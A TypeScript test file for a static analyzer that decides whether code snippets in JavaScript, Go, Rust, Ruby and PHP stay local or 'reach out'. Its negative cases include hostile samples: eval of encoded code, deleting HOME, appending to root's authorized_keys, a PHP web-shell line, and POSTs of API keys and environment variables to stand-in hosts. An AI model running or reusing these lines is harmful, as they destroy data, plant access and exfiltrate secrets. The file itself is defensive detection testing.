import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readForeignProgram } from '../../../src/code/markdown/foreign-programs.ts';

test('a program that starts constant commands and stays in its folder is understood', () => {
  const programs: readonly (readonly [string, string, readonly string[]])[] = [
    [
      'js',
      'import { execFileSync } from "node:child_process";\nexecFileSync("git", ["status", "-s"], { encoding: "utf8" });\n',
      ['git status -s'],
    ],
    ['js', 'const re = /a(b)/;\nconst m = re.exec(text);\nfs.writeFileSync("dist/a.json", "{}");\n', []],
    [
      'ts',
      'const r = await fetch("/api/items");\nexport class A { constructor(private a: number) {} }\n',
      [],
    ],
    [
      'js',
      'await fetch("https://api.example.com/v1", { headers: { Authorization: `Bearer \u0024{process.env.API_KEY}` } });\n',
      [],
    ],
    ['go', 'import "os/exec"\nfunc main() { exec.Command("go", "vet", "./...").Run() }\n', ['go vet ./...']],
    [
      'rust',
      'use std::process::Command;\nfn main() { Command::new("git").args(["log", "-1"]).status().unwrap(); }\n',
      ['git log -1'],
    ],
  ];
  for (const [language, text, commands] of programs) {
    const read = readForeignProgram(language, text);
    assert.deepEqual([read.understood, read.commands.map((one) => one.text)], [true, commands], text);
  }
});

test('a program that reaches out is not', () => {
  const programs: readonly (readonly [string, string])[] = [
    ['js', 'require("child_process").execSync(cmd)'],
    ['js', 'eval(atob("YWxlcnQ="))'],
    ['js', 'globalThis["ev" + "al"](x)'],
    ['js', '(() => {}).constructor("return process")()'],
    ['js', 'fs.rmSync(process.env.HOME, { recursive: true })'],
    ['js', 'fs.appendFileSync("/root/.ssh/authorized_keys", key)'],
    ['js', 'fetch("http://198.51.100.7/x")'],
    ['js', 'fetch("https://a.example/x", { method: "POST", body: process.env.API_KEY })'],
    ['ruby', 'puts `id`'],
    ['php', 'system($_GET["c"]);'],
    ['go', 'exec.Command(os.Args[1]).Run()'],
  ];
  for (const [language, text] of programs)
    assert.equal(readForeignProgram(language, text).understood, false, text);
  const sends =
    'http.Post("https://a.example/e", "text/plain", strings.NewReader(strings.Join(os.Environ(), "")))';
  assert.equal(readForeignProgram('go', sends).sendsEnvironment, true);
});

test('twice the program takes about twice the time', () => {
  const took = (count: number): number => {
    const text = 'a.b.c.d(e(f("x", [1, {'.repeat(count);
    const start = process.cpuUsage();
    readForeignProgram('js', text);
    const { user, system } = process.cpuUsage(start);
    return user + system;
  };
  took(500);
  assert.ok(took(4_000) < 60_000_000);
});
